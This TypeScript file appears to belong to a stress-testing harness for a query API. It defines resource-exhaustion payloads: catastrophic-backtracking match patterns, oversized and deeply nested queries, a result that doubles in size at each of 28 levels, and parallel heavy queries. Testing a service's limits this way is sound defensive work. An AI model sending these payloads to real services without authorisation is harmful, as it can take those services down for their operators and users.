import {pickClient, repeat, type Attack, type Target} from '../attack.ts'

const PATH = '/lake/v2025-02-19/data/query/production'

function post(target: Target, n: number, query: string, params: object = {}): Promise<number> {
  return pickClient(target, n).send(PATH, {method: 'POST', body: JSON.stringify({query, params})})
}

/** Every way of backtracking in a `match` pattern. */
export const matchPattern: Attack = (target, signal) =>
  repeat(4, signal, (n) =>
    post(target, n, '{"x": $t match $p}', {t: 'a'.repeat(40), p: `${'*a'.repeat(n % 9)}*b`}),
  )

export const longMatchPattern: Attack = (target, signal) =>
  repeat(2, signal, (n) => post(target, n, '{"x": $t match $p}', {t: 'a', p: '.'.repeat(180_000)}))

/** As many conditions as a query may have characters for, and more. */
export const manyConditions: Attack = (target, signal) =>
  repeat(2, signal, (n) => {
    const conditions = Array.from({length: n % 2 ? 9_000 : 22_000}, () => 'a==1')
    return post(target, n, `*[${conditions.join('&&')}]`)
  })

export const deepQuery: Attack = (target, signal) =>
  repeat(2, signal, (n) => post(target, n, `*${'[true]'.repeat(5000)}`))

/** An answer whose size doubles with every level. */
export const hugeResult: Attack = (target, signal) => {
  const levels = '{"s": s + s}'.repeat(28)
  return repeat(2, signal, (n) => post(target, n, `{"s": ${n % 2 ? '"x"' : '[1]'}}${levels}`))
}

/** Heavy queries of which no two are alike, on twenty connections. */
export const heavyQueries: Attack = (target, signal) =>
  repeat(20, signal, (n) =>
    post(target, n, `count(*[count(*[_id > ^._id && $n == ${n}]) > ${n % 7}])`, {n}),
  )
